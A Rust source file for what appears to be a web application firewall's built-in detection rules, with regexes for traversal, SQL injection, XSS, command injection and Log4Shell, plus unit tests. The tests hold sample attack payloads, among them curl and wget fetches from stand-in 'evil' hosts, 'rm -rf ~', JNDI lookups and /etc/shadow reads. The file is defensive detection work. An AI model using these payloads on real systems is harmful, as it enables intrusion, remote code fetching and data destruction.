//! Built-in detection rules.
//!
//! Each rule has a stable id that appears in events and in block responses,
//! and a set of target kinds it applies to. Its regex runs over a value after
//! [`crate::decode::normalize`], so patterns are written in lower case and
//! need no encoded variants. Rules run in table order and the first match wins.

use crate::error::Error;
use regex_lite::Regex;

/// The kind of request value that a rule inspects.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum TargetKind {
    /// The `:path` value before `?`.
    Path,
    /// The name of a query argument.
    QueryName,
    /// The value of a query argument.
    QueryValue,
    /// The value of a request header other than `:path` and `cookie`.
    Header,
    /// The name of a cookie.
    CookieName,
    /// The value of a cookie.
    CookieValue,
    /// The name of a field in a form-urlencoded body.
    FormName,
    /// The value of a field in a form-urlencoded body.
    FormValue,
    /// A request body that is not form-urlencoded, as a whole.
    Body,
}

impl TargetKind {
    const fn bit(self) -> u16 {
        match self {
            TargetKind::Path => 1,
            TargetKind::QueryName => 1 << 1,
            TargetKind::QueryValue => 1 << 2,
            TargetKind::Header => 1 << 3,
            TargetKind::CookieName => 1 << 4,
            TargetKind::CookieValue => 1 << 5,
            TargetKind::FormName => 1 << 6,
            TargetKind::FormValue => 1 << 7,
            TargetKind::Body => 1 << 8,
        }
    }
}

/// Seriousness of a rule match.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Severity {
    /// Suspicious but rarely harmful on its own.
    Low,
    /// Harmful in some applications.
    Medium,
    /// Commonly leads to data access or tampering.
    High,
    /// Commonly leads to remote code execution.
    Critical,
}

impl Severity {
    /// Returns the numeric value reported as `event.severity`, on a 0 to 100
    /// scale: low 21, medium 47, high 73, critical 99.
    pub const fn score(self) -> u8 {
        match self {
            Severity::Low => 21,
            Severity::Medium => 47,
            Severity::High => 73,
            Severity::Critical => 99,
        }
    }
}

/// The identity of a rule, as events and block responses report it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RuleInfo {
    /// Stable id, such as `sqli-union-select`.
    pub id: &'static str,
    /// Human-readable name.
    pub name: &'static str,
    /// Severity of a match.
    pub severity: Severity,
}

/// A compiled rule.
#[derive(Debug, Clone)]
pub struct Rule {
    /// Identity of the rule.
    pub info: RuleInfo,
    scope: u16,
    prefilter: &'static [&'static str],
    regex: Regex,
}

impl Rule {
    /// Tells whether the rule inspects values of `kind`.
    pub fn applies_to(&self, kind: TargetKind) -> bool {
        self.scope & kind.bit() != 0
    }

    /// Returns the first match in a normalized value, as a byte range.
    ///
    /// A value that contains none of the rule's prefilter literals is skipped
    /// without running the regex.
    pub fn find(&self, normalized: &str) -> Option<std::ops::Range<usize>> {
        let candidate = self.prefilter.is_empty()
            || self
                .prefilter
                .iter()
                .any(|literal| normalized.contains(literal));
        if !candidate {
            return None;
        }
        self.regex.find(normalized).map(|found| found.range())
    }
}

struct RuleSpec {
    info: RuleInfo,
    scope: u16,
    prefilter: &'static [&'static str],
    pattern: &'static str,
}

const ALL: u16 = (1 << 9) - 1;
const ALL_BUT_BODY: u16 = ALL & !TargetKind::Body.bit();
const ALL_BUT_FREE_TEXT: u16 = ALL & !(TargetKind::Body.bit() | TargetKind::FormValue.bit());
const URL: u16 = TargetKind::Path.bit() | TargetKind::QueryValue.bit();

/// Commands that injection payloads typically run, with an optional
/// `/bin/` or `/usr/bin/` prefix.
macro_rules! command {
    () => {
        r"(?:/(?:usr/)?bin/)?(?:cat|wget|curl|nc|ncat|netcat|sh|bash|zsh|dash|ksh|id|whoami|uname|ping|nslookup|python[23]?|perl|php|ruby|rm|chmod|telnet|tftp)"
    };
}

/// Arguments that follow a command name in a payload: a flag, a path, a home or
/// variable reference, an IPv4 address or `${IFS}`. Ordinary prose such as
/// "dogs; cat people" has none of these after the command.
macro_rules! command_arguments {
    () => {
        r"(?:\s+[-~.$]|\s+\S*/|\s+\d{1,3}\.\d{1,3}\.|\$\{ifs\})"
    };
}

const RULE_SPECS: &[RuleSpec] = &[
    RuleSpec {
        info: RuleInfo {
            id: "traversal-dot-segment",
            name: "Path traversal with a dot-dot segment",
            severity: Severity::High,
        },
        // Raw bodies are left out because code in JSON bodies often contains
        // relative imports such as "../lib".
        scope: ALL_BUT_BODY,
        prefilter: &[".."],
        pattern: r"(?:^|[/\\])\.\.(?:[/\\]|$)",
    },
    RuleSpec {
        info: RuleInfo {
            id: "traversal-sensitive-file",
            name: "Access to a sensitive system file",
            severity: Severity::High,
        },
        scope: ALL,
        prefilter: &["/etc/", "win.ini", "/proc/self/"],
        pattern: r"/etc/(?:passwd|shadow)\b|\bwin\.ini\b|/proc/self/(?:environ|cmdline|mem)\b",
    },
    RuleSpec {
        info: RuleInfo {
            id: "sqli-union-select",
            name: "SQL injection with UNION SELECT",
            severity: Severity::High,
        },
        scope: ALL,
        prefilter: &["union"],
        pattern: r"\bunion(?:\s|\(|/\*.*?\*/)+(?:(?:all|distinct)(?:\s|\(|/\*.*?\*/)+)?select\b",
    },
    RuleSpec {
        info: RuleInfo {
            id: "sqli-tautology",
            name: "SQL injection with a tautology or a comment after a quote",
            severity: Severity::High,
        },
        scope: ALL,
        prefilter: &["'", "\"", "or"],
        pattern: r#"['"]\s*\)*\s*(?:or|and|xor)\b\s*\(*\s*['"]?[\w-]*['"]?\s*(?:=|<>|!=|<|>|\blike\b|\bis\b)|['"]\s*\)*\s*(?:--(?:\s|$)|/\*)|\bor\s+\d+\s*=\s*\d+\b"#,
    },
    RuleSpec {
        info: RuleInfo {
            id: "sqli-stacked-query",
            name: "SQL injection with a stacked DROP or TRUNCATE",
            severity: Severity::High,
        },
        scope: ALL,
        prefilter: &[";"],
        pattern: r";\s*(?:drop|truncate)\s+(?:table|database|schema)\b",
    },
    RuleSpec {
        info: RuleInfo {
            id: "sqli-time-delay",
            name: "Time-based blind SQL injection",
            severity: Severity::High,
        },
        scope: ALL,
        prefilter: &["sleep", "benchmark", "waitfor"],
        pattern: r#"\b(?:and|or|select|where|union|if)\b[\s(]*(?:sleep|pg_sleep|benchmark)\s*\(|['"]\s*\)*\s*(?:;|\|\||&&)\s*(?:select\s+)?(?:sleep|pg_sleep|benchmark)\s*\(|\bwaitfor\s+delay\s+'"#,
    },
    RuleSpec {
        info: RuleInfo {
            id: "xss-script-tag",
            name: "Cross-site scripting with a script tag",
            severity: Severity::Medium,
        },
        scope: ALL,
        prefilter: &["script"],
        pattern: r"<\s*script\b",
    },
    RuleSpec {
        info: RuleInfo {
            id: "xss-javascript-uri",
            name: "Cross-site scripting with a javascript: URI",
            severity: Severity::Medium,
        },
        scope: ALL,
        prefilter: &["javascript"],
        // Requires code after the scheme, so a title like
        // "JavaScript: The Good Parts" passes.
        pattern: r#"javascript\s*:\s*(?:[\w.$\[\]]+\s*[(=`]|[/'"(])"#,
    },
    RuleSpec {
        info: RuleInfo {
            id: "xss-svg-onload",
            name: "Cross-site scripting with an svg onload handler",
            severity: Severity::Medium,
        },
        scope: ALL,
        prefilter: &["svg"],
        pattern: r#"<\s*svg\b[^>]*?[\s/"']onload\s*="#,
    },
    RuleSpec {
        info: RuleInfo {
            id: "xss-event-handler",
            name: "Cross-site scripting with an event handler attribute",
            severity: Severity::Medium,
        },
        scope: ALL,
        prefilter: &["<"],
        pattern: r#"<\s*[a-z][\w:-]*[^>]*?[\s/"']on[a-z]{3,}\s*="#,
    },
    RuleSpec {
        info: RuleInfo {
            id: "xss-iframe",
            name: "Cross-site scripting with an iframe tag",
            severity: Severity::Medium,
        },
        scope: ALL,
        prefilter: &["iframe"],
        pattern: r"<\s*iframe\b",
    },
    RuleSpec {
        info: RuleInfo {
            id: "cmdi-chained-command",
            name: "Command injection after a shell separator",
            severity: Severity::Critical,
        },
        scope: ALL,
        prefilter: &[";", "|", "&&"],
        pattern: concat!(
            r"(?:;|\|\|?|&&)\s*",
            command!(),
            r"(?:",
            command_arguments!(),
            r"|\s*$|\s*[;&<>`)$])"
        ),
    },
    RuleSpec {
        info: RuleInfo {
            id: "cmdi-command-substitution",
            name: "Command injection with command substitution",
            severity: Severity::Critical,
        },
        scope: ALL,
        prefilter: &["$(", "`"],
        pattern: concat!(
            r"\$\(\s*",
            command!(),
            r"(?:",
            command_arguments!(),
            r"|\s*\))|`\s*",
            command!(),
            command_arguments!()
        ),
    },
    RuleSpec {
        info: RuleInfo {
            id: "cmdi-backtick-command",
            name: "Command injection with a bare backtick command",
            severity: Severity::Critical,
        },
        // Body text and form values are left out because Markdown writes
        // code spans such as `id` or `curl` the same way.
        scope: ALL_BUT_FREE_TEXT,
        prefilter: &["`"],
        pattern: concat!(r"`\s*", command!(), r"\s*`"),
    },
    RuleSpec {
        info: RuleInfo {
            id: "log4shell-jndi",
            name: "Log4Shell JNDI lookup",
            severity: Severity::Critical,
        },
        scope: ALL,
        prefilter: &["${"],
        pattern: r"\$\{\s*jndi\s*:",
    },
    RuleSpec {
        info: RuleInfo {
            id: "log4shell-nested-lookup",
            name: "Log4Shell nested lookup",
            severity: Severity::Critical,
        },
        scope: ALL,
        prefilter: &["${"],
        // A lookup inside a lookup, such as ${${lower:j}ndi:...} or
        // ${${::-j}...}. Nested JavaScript template literals have no `:` or
        // `-` right inside the inner braces, so they pass.
        pattern: r"\$\{[^}]*\$\{[^}]*[:-]",
    },
    RuleSpec {
        info: RuleInfo {
            id: "crlf-injection",
            name: "CRLF injection",
            severity: Severity::Medium,
        },
        scope: URL,
        prefilter: &["\r", "\n"],
        pattern: r"[\r\n]+[^\r\n]{0,32}",
    },
];

/// Compiles the built-in rules, in the order they run.
pub fn builtin_rules() -> Result<Vec<Rule>, Error> {
    RULE_SPECS
        .iter()
        .map(|spec| {
            let regex = Regex::new(spec.pattern).map_err(|error| Error::InvalidRule {
                id: spec.info.id,
                message: error.to_string(),
            })?;
            Ok(Rule {
                info: spec.info,
                scope: spec.scope,
                prefilter: spec.prefilter,
                regex,
            })
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decode::{normalize, Plus};

    fn rules() -> Vec<Rule> {
        match builtin_rules() {
            Ok(rules) => rules,
            Err(error) => panic!("{error}"),
        }
    }

    /// Returns the id of the first rule that matches `raw` as `kind`.
    fn first_match(rules: &[Rule], kind: TargetKind, raw: &str) -> Option<&'static str> {
        let normalized = normalize(raw.as_bytes(), Plus::Space);
        rules
            .iter()
            .filter(|rule| rule.applies_to(kind))
            .find(|rule| rule.find(&normalized).is_some())
            .map(|rule| rule.info.id)
    }

    #[test]
    fn builtin_rules_compile() {
        assert_eq!(rules().len(), RULE_SPECS.len());
    }

    #[test]
    fn rule_ids_are_unique() {
        let rules = rules();
        let mut ids: Vec<_> = rules.iter().map(|rule| rule.info.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), rules.len());
    }

    #[test]
    fn attacks_match_expected_rule() {
        let rules = rules();
        let cases = [
            ("../../etc/shadow", "traversal-dot-segment"),
            ("..\\..\\windows", "traversal-dot-segment"),
            ("%2e%2e%2f%2e%2e%2f", "traversal-dot-segment"),
            ("%252e%252e%252fboot", "traversal-dot-segment"),
            ("file:///etc/passwd", "traversal-sensitive-file"),
            ("c:\\windows\\win.ini", "traversal-sensitive-file"),
            ("1 UNION SELECT password FROM users", "sqli-union-select"),
            ("1 union all select 1,2", "sqli-union-select"),
            ("1/**/union/**/select/**/1", "sqli-union-select"),
            ("1+union+select+1", "sqli-union-select"),
            ("' or 1=1--", "sqli-tautology"),
            ("admin' OR 'a'='a", "sqli-tautology"),
            ("x') or ('1'='1", "sqli-tautology"),
            ("admin'--", "sqli-tautology"),
            ("1 or 2=2", "sqli-tautology"),
            ("1; DROP TABLE users", "sqli-stacked-query"),
            ("1 and sleep(5)", "sqli-time-delay"),
            ("1) or benchmark(1000000,md5(1))", "sqli-time-delay"),
            ("x';select pg_sleep(10)", "sqli-time-delay"),
            ("1'; waitfor delay '0:0:5'", "sqli-time-delay"),
            ("<script>alert(1)</script>", "xss-script-tag"),
            ("%3Cscript%3E", "xss-script-tag"),
            ("< ScRiPt src=//x>", "xss-script-tag"),
            ("javascript:alert(1)", "xss-javascript-uri"),
            ("JavaScript:window.location='x'", "xss-javascript-uri"),
            ("javascript://%0aalert(1)", "xss-javascript-uri"),
            ("<svg/onload=alert(1)>", "xss-svg-onload"),
            ("<svg xmlns=x onload = alert(1)>", "xss-svg-onload"),
            ("<img src=x onerror=alert(1)>", "xss-event-handler"),
            ("<body onload=alert(1)>", "xss-event-handler"),
            ("<a href=# onclick=\"x()\">", "xss-event-handler"),
            ("<iframe src=//evil>", "xss-iframe"),
            ("; cat /etc/hostname", "cmdi-chained-command"),
            ("x|id", "cmdi-chained-command"),
            ("1 && curl http://evil/x.sh", "cmdi-chained-command"),
            ("a;wget 198.51.100.7/x", "cmdi-chained-command"),
            ("|| rm -rf ~", "cmdi-chained-command"),
            ("; cat${IFS}x", "cmdi-chained-command"),
            ("x;/bin/sh", "cmdi-chained-command"),
            ("$(whoami)", "cmdi-command-substitution"),
            ("$(curl -s evil)", "cmdi-command-substitution"),
            ("`cat /etc/hostname`", "cmdi-command-substitution"),
            ("`id`", "cmdi-backtick-command"),
            ("${jndi:ldap://evil/a}", "log4shell-jndi"),
            ("${JNDI:rmi://x}", "log4shell-jndi"),
            ("${${lower:j}ndi:ldap://x}", "log4shell-nested-lookup"),
            ("${${::-j}${::-n}di:x}", "log4shell-nested-lookup"),
        ];
        for (payload, expected) in cases {
            assert_eq!(
                first_match(&rules, TargetKind::QueryValue, payload),
                Some(expected),
                "payload {payload:?}"
            );
        }
    }

    #[test]
    fn crlf_matches_only_url_targets() {
        let rules = rules();
        let payload = "x%0d%0aset-cookie:%20a=b";
        assert_eq!(
            first_match(&rules, TargetKind::QueryValue, payload),
            Some("crlf-injection")
        );
        assert_eq!(
            first_match(&rules, TargetKind::Path, payload),
            Some("crlf-injection")
        );
        assert_eq!(first_match(&rules, TargetKind::FormValue, payload), None);
        assert_eq!(first_match(&rules, TargetKind::Body, payload), None);
    }

    #[test]
    fn ordinary_values_pass() {
        let rules = rules();
        let cases = [
            "select a plan",
            "Please select your union membership",
            "The union will select a leader",
            "O'Reilly",
            "Rock'n'Roll",
            "'Oregon' is a state",
            "wget vs curl",
            "cats && dogs",
            "I like dogs; cat people are fine too",
            "https://example.com/a/b?x=1&y=2",
            "jane.doe+tag@example.com",
            "JavaScript: The Good Parts",
            "1+1=2",
            "100% cotton",
            "Tom & Jerry",
            "a<b and c>d",
            "so.../ok",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            "en-US,en;q=0.9",
            "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
            "time.sleep(5)",
            "${user.name}",
            "sleep(1000)",
            "",
        ];
        for value in cases {
            assert_eq!(
                first_match(&rules, TargetKind::QueryValue, value),
                None,
                "value {value:?}"
            );
        }
    }

    #[test]
    fn code_in_bodies_passes() {
        let rules = rules();
        let cases = [
            r#"{"code":"import x from '../lib/x.js'"}"#,
            r#"{"code":"const s = `${a ? `${b}` : c}`"}"#,
            r#"{"doc":"use the `id` field or run `curl`"}"#,
            r#"{"table":"| id | name |\n|----|------|"}"#,
            r#"{"code":"for (i = 0; i < n; i++) { total += i; }"}"#,
            r#"{"query":"SELECT name FROM users WHERE id = ?"}"#,
            r#"{"or":1,"and":"x"}"#,
        ];
        for body in cases {
            assert_eq!(
                first_match(&rules, TargetKind::Body, body),
                None,
                "body {body:?}"
            );
        }
    }

    #[test]
    fn prefilter_skips_regex() {
        let rules = rules();
        let union = rules
            .iter()
            .find(|rule| rule.info.id == "sqli-union-select");
        let Some(union) = union else {
            panic!("sqli-union-select is missing");
        };
        assert_eq!(union.find("no keyword here"), None);
        assert_eq!(union.find("1 union select 2"), Some(2..14));
    }

    #[test]
    fn severity_scores() {
        assert_eq!(Severity::Low.score(), 21);
        assert_eq!(Severity::Critical.score(), 99);
    }
}
